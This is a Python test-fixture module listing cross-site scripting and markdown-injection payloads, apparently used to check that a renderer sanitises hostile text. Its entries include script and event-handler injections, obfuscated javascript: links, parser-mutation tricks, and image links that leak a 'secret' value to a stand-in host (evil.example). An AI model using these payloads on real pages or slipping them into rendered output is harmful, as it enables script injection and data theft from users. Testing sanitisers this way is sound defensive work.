"""Texts that a hostile model, tool or title might hold."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    """One attempt."""

    name: str
    text: str


_EVIL = "https://evil.example"

CASES = [
    Case(name, text)
    for name, text in {
        "script": "<script>window.__pwn=1</script>",
        "script in upper case": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "broken script": "<scr<script>ipt>window.__pwn=1</scr</script>ipt>",
        "img onerror": "<img src=x onerror=window.__pwn=1>",
        "img in quotes": '"><img src=x onerror="window.__pwn=1">',
        "svg onload": "<svg onload=window.__pwn=1>",
        "svg script": "<svg><script>window.__pwn=1</script></svg>",
        "svg animate": '<svg><a><animate attributeName=href values="javascript:window.__pwn=1"/>x</a></svg>',
        "iframe": f"<iframe src={_EVIL}></iframe>",
        "iframe srcdoc": '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
        "object": f"<object data={_EVIL}></object>",
        "embed": f"<embed src={_EVIL}>",
        "link": f"<link rel=stylesheet href={_EVIL}/x.css>",
        "meta refresh": f'<meta http-equiv=refresh content="0;url={_EVIL}">',
        "base": f"<base href={_EVIL}>",
        "form": f"<form action={_EVIL}><button>x</button></form>",
        "input autofocus": "<input onfocus=window.__pwn=1 autofocus>",
        "details": "<details open ontoggle=window.__pwn=1>x</details>",
        "video": "<video><source onerror=window.__pwn=1></video>",
        "body": "<body onload=window.__pwn=1>",
        "style": "<style>*{background:url(https://evil.example/s)}</style>",
        "math": '<math><mtext></mtext><a xlink:href="javascript:window.__pwn=1">x</a></math>',
        "template": "<template><script>window.__pwn=1</script></template>",
        "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=window.__pwn=1>">',
        "comment mutation": "<!--><img src=x onerror=window.__pwn=1>-->",
        "cdata": "<![CDATA[<img src=x onerror=window.__pwn=1>]]>",
        "custom element": "<x-y onclick=window.__pwn=1 style=position:fixed;inset:0>x</x-y>",
        "javascript link": "[x](javascript:window.__pwn=1)",
        "javascript in capitals": "[x](JaVaScRiPt:window.__pwn=1)",
        "javascript with tab": "[x](java\tscript:window.__pwn=1)",
        "javascript with newline": "[x](java\nscript:window.__pwn=1)",
        "javascript with entity tab": "[x](java&#9;script:window.__pwn=1)",
        "javascript by entities": "[x](&#106;&#97;&#118;&#97;script:window.__pwn=1)",
        "javascript by hex": "[x](&#x6A;avascript:window.__pwn=1)",
        "javascript with control": "[x](\x01javascript:window.__pwn=1)",
        "javascript in angles": "[x](<javascript:window.__pwn=1>)",
        "javascript escaped": "[x](javascript\\:window.__pwn=1)",
        "data link": "[x](data:text/html,<script>window.__pwn=1</script>)",
        "vbscript link": "[x](vbscript:msgbox)",
        "file link": "[x](file:///etc/passwd)",
        "blob link": "[x](blob:https://evil.example/x)",
        "protocol relative": "[x](//evil.example/x)",
        "autolink": "<javascript:window.__pwn=1>",
        "autolink data": "<data:text/html,x>",
        "link title": '[x](https://ok.example "onmouseover=window.__pwn=1" onclick=x)',
        "link attribute break": '[x](https://ok.example"onmouseover="window.__pwn=1)',
        "image": f"![leak]({_EVIL}/p.png?q=secret)",
        "image reference": f"![leak][r]\n\n[r]: {_EVIL}/p.png",
        "image in link": f"[![leak]({_EVIL}/p.png)]({_EVIL})",
        "image onerror": '![x"onerror="window.__pwn=1](x)',
        "reference link": "[x][r]\n\n[r]: javascript:window.__pwn=1",
        "table cell": "| a | b |\n|---|---|\n| <img src=x onerror=window.__pwn=1> | [x](javascript:1) |",
        "table header": "| <script>window.__pwn=1</script> |\n|---|\n| x |",
        "heading": "# <img src=x onerror=window.__pwn=1>",
        "list": "- <svg/onload=window.__pwn=1>\n- [x](javascript:window.__pwn=1)",
        "quote": "> <iframe src=javascript:window.__pwn=1>",
        "code fence info": '```"><script>window.__pwn=1</script>\nx\n```',
        "code span": "`<img src=x onerror=window.__pwn=1>`",
        "nested emphasis": "**<img src=x *onerror=window.__pwn=1>* **",
        "entities as tags": "&lt;img src=x onerror=window.__pwn=1&gt;",
        "null byte": "<scr\0ipt>window.__pwn=1</scr\0ipt>",
        "bidi": "\u202e<script>window.__pwn=1</script>",
        "prototype": "[__proto__](https://ok.example) &constructor; &__proto__;",
        "template literal": "${window.__pwn=1} {{constructor.constructor('window.__pwn=1')()}}",
    }.items()
]
